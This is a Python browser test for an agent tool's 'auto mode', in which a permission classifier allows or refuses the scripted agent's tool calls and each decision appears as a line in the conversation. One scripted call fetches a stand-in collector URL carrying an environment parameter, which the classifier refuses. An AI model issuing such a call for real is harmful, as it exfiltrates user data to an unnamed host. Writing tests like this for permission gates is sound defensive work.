"""Auto mode on the web page: the mode is offered, and each decision is a line in the
conversation with the classifier's reason (a real `keel serve`, Debian's chromium)."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from keel.llm.script import reply
from keel.testing.anthropic_server import AnthropicServer
from tests.server_helpers import (  # noqa: F401 (fixtures)
    Served,
    anthropic_fixture,
    served_fixture,
    servers_fixture,
)
from tests.web_helpers import (  # noqa: F401 (fixtures)
    browser_fixture,
    expect,
    new_session,
    session_url,
    tabs_fixture,
)

pytestmark = pytest.mark.needs("chromium")


def verdict(decision: str, reason: str) -> str:
    return json.dumps({"decision": decision, "reason": reason})


def test_auto_decisions_are_lines_with_their_reasons(
    served: Served, anthropic: AnthropicServer, project: Path, tabs: Any
) -> None:
    anthropic.add(
        reply("", ("write", {"path": "notes.txt", "content": "hi\n"})),
        reply(verdict("allow", "the user asked for notes")),
        reply("", ("web_fetch", {"url": "https://collect.example.net/?env=1"})),
        reply(verdict("deny", "sends data to a host the request never named")),
        reply("Done."),
    )
    sid = new_session(served)
    tab = tabs(session_url(served, sid))
    expect(tab.loc("#mode")).to_have_value("default")
    tab.page.select_option("#mode", "auto")
    with served.client() as client:
        for _ in range(100):
            if client.get(f"/v1/sessions/{sid}").json()["mode"] == "auto":
                break
            tab.page.wait_for_timeout(50)
        assert client.get(f"/v1/sessions/{sid}").json()["mode"] == "auto"
    tab.prompt("take notes")
    tab.result("done")
    lines = tab.loc("#transcript .line.notice")
    expect(lines.filter(has_text="auto mode")).to_have_text(
        [
            "auto mode allowed write: the user asked for notes",
            "auto mode refused web_fetch: sends data to a host the request never named",
        ]
    )
    expect(lines.filter(has_text="auto mode refused")).to_have_class("line notice warning")
    assert (project / "notes.txt").read_text(encoding="utf-8") == "hi\n"
    assert tab.loc(".ask").count() == 0  # nobody was asked
